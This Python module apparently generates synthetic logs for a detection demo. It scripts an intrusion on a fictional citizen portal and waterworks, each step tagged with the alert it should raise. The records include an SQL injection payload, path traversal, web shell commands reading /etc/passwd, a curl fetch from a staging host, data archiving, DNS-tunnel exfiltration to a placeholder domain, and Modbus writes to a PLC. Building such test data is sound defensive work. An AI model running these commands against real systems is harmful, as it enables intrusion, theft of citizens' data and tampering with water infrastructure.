"""Attack: the citizen portal is scanned, an SSH password guessed, a web shell dropped, a tool fetched, the portal database copied,
the data staged and carried out through DNS questions; at the end a PLC of the waterworks is written to.
"""

from __future__ import annotations

import base64
import random
from functools import partial

from demo import cloud, devices, eve, syslog
from demo.background.citizens import BROWSERS
from demo.background.scene import SENSORS, session
from demo.chains.captures import capture
from demo.chains.chain import LOOT, Chain
from demo.city import City, Host
from demo.plan import Planned, Route

SWEPT_PORTS = (21, 22, 23, 25, 445, 1433, 3306, 3389, 5432, 6379, 7001, 8080, 8443, 9200, 27017)
SCANNER = "sqlmap/1.9.4#stable (https://sqlmap.org)"
INJECTION = "1%27%20UNION%20SELECT%20table_name,NULL%20FROM%20information_schema.tables--%20-"
GUESSED_NAMES = ("root", "admin", "oracle", "test", "deploy")
SHELL = "/portal/uploads/avatar.php"
HIDDEN = "/" + "tmp/"
"""The intruder's hiding place on the portal's server, as it stands in the record; nothing is written there."""


def portal(city: City, rng: random.Random) -> list[Planned]:
    """About 90 seconds, from an IPv4 or an IPv6 address."""
    chain = Chain("portal")
    web = rng.choice(city.within("citizen-dmz", "web")[:3])
    over_ip6 = rng.random() < 0.5
    intruder = f"2001:db8:bad::{rng.randrange(1, 0xFFFF):x}" if over_ip6 else f"203.0.113.{rng.randrange(100, 200)}"
    _sweep(chain, web, intruder)
    _probe(chain, web, intruder)
    _guess_password(chain, web, intruder)
    _drop_web_shell(chain, web, intruder)
    _fetch_tool(chain, city, web)
    _copy_database(chain, web, city.named("portal-db-01"))
    _carry_out(chain, city, rng, web)
    _reach_the_plc(chain, city.named("wtr-plc-01"), web)
    return chain.records


def _sweep(chain: Chain, web: Host, intruder: str) -> None:
    chain.step("sweeps the portal's ports", 0, web, "T1595.001")
    for number, port in enumerate(SWEPT_PORTS):
        flow = (intruder, 41_000 + number, web.address(":" in intruder), port)
        denied = partial(devices.usg_policy, host="USG-EDGE-01", permit=False, flow=flow, zones=("untrust", "dmz"))
        chain.send(Route.TCP, denied, *(("firewall_port_sweep",) if port == SWEPT_PORTS[-1] else ()), gap=0.1)


def _probe(chain: Chain, web: Host, intruder: str) -> None:
    chain.step("probes the portal", 2, web, "T1190")
    for target, status, expected in (
        (f"/portal/search?q={INJECTION}", 500, "web_sql_injection"),
        ("/portal/download?file=../../../../etc/passwd", 403, "web_path_traversal"),
    ):
        request = f"GET {target} HTTP/1.1"
        asked = partial(syslog.nginx, host=web.name, source=intruder, request=request, status=status, size=548, agent=SCANNER)
        chain.send(Route.TCP, asked, "web_scanner_agent", expected)


def _guess_password(chain: Chain, web: Host, intruder: str) -> None:
    chain.step("guesses an SSH password", 4, web, "T1110.001")
    for attempt in range(18):
        name = GUESSED_NAMES[attempt % len(GUESSED_NAMES)]
        failed = partial(
            syslog.sshd_failed,
            host=web.name,
            pid=20_100 + attempt,
            user=name,
            source=intruder,
            port=42_000 + attempt,
            known=name in ("root", "deploy"),
        )
        chain.send(Route.TCP, failed, *(("sshd_bruteforce",) if attempt == 17 else ()), gap=0.5)
    accepted = partial(
        syslog.sshd_accepted, host=web.name, pid=20_140, user="deploy", source=intruder, port=42_090, method="password"
    )
    chain.send(Route.TCP, accepted, "sshd_bruteforce_success", "internet_to_management")
    root = partial(syslog.sudo, host=web.name, user="deploy", directory="/home/deploy", command="/bin/bash")
    chain.send(Route.TCP, root, "sudo_root_shell")


def _drop_web_shell(chain: Chain, web: Host, intruder: str) -> None:
    chain.step("drops a web shell", 6, web, "T1505.003")
    dropped, used = "webshell_script_in_uploads", "webshell_command_parameter"
    for request, expects in (
        (f"POST {SHELL} HTTP/1.1", (dropped,)),
        (f"GET {SHELL}?cmd=id HTTP/1.1", (dropped, used)),
        (f"GET {SHELL}?cmd=cat%20/etc/passwd HTTP/1.1", (dropped, used)),
    ):
        seen = partial(syslog.nginx, host=web.name, source=intruder, request=request, status=200, size=1_204, agent=BROWSERS[3])
        chain.send(Route.TCP, seen, *expects, gap=2.0)


def _fetch_tool(chain: Chain, city: City, web: Host) -> None:
    chain.step("fetches a tool", 4, web, "T1105")
    words = ("curl", "-s", "-o", HIDDEN + ".u", f"http://{LOOT}:8080/kit/update.sh")
    chain.send(Route.TCP, partial(syslog.auditd_execve, host=web.name, serial=88_101, arguments=words), "auditd_download_to_tmp")
    plc = city.named("wtr-plc-02")
    mirror = partial(capture, kind="attack", client=web.ip, client_port=40_222, loot=(LOOT, 8080), plc=plc.ip)
    seen = ("script_from_bare_address", "demo_file_on_wire", "demo_file", "modbus_write_on_wire")
    chain.send(Route.PCAP, mirror, *seen)


def _copy_database(chain: Chain, web: Host, database: Host) -> None:
    """The web shell uses the portal's own account: the way is permitted, what is asked for is not usual."""
    chain.step("copies the portal's database", 5, database, "T1213.006")
    way = (web.ip, 46_120, database.ip, 5432)
    chain.send(*session("FW-DC-01", way, ("DMZ", "Data"))[1:])
    copy = partial(cloud.database, host=database.name, user="portal", source=web.ip, verb="COPY", table="public.citizen", pid=4_407)
    chain.send(Route.TCP, partial(copy, statement="COPY public.citizen TO STDOUT"), "database_bulk_export")
    chain.send(Route.JSON, partial(eve.flow, sensor=SENSORS[database.zone], flow=way, received=240_000_000, seconds=6))


def _carry_out(chain: Chain, city: City, rng: random.Random, web: Host) -> None:
    chain.step("stages citizens' data", 5, web, "T1560.001")
    words = ("tar", "-czf", HIDDEN + ".x.tgz", "/srv/portal/storage/citizens", "/etc/passwd")
    chain.send(Route.TCP, partial(syslog.auditd_execve, host=web.name, serial=88_140, arguments=words), "auditd_archive_staging")

    chain.step("carries data out through DNS", 4, web, "T1048.003")
    ask = partial(eve.dns, sensor=SENSORS["operations"], source=web.ip, server=city.named("ops-dns-01").ip, kind="TXT")
    for number in range(30):
        label = base64.b32encode(rng.randbytes(33)).decode().lower().rstrip("=")
        name = f"{label}.{number:04x}.t.exfil-lanting.example"
        asked = partial(ask, port=30_000 + number, name=name)
        chain.send(Route.JSON, asked, "dns_long_label", *(("dns_tunnel_volume",) if number == 29 else ()), gap=0.3)


def _reach_the_plc(chain: Chain, plc: Host, web: Host) -> None:
    chain.step("writes to a PLC", 6, plc, "T0855")
    flow = (web.ip, 40_900, plc.ip, 502)
    for register, value in ((40, 1), (41, 0), (42, 65_535)):
        write = partial(eve.modbus, sensor=SENSORS["water-ot"], flow=flow, function=6, address=register, value=value)
        chain.send(Route.JSON, write, "modbus_write", "crossing_denied", "ot_protocol_from_outside", gap=0.8)
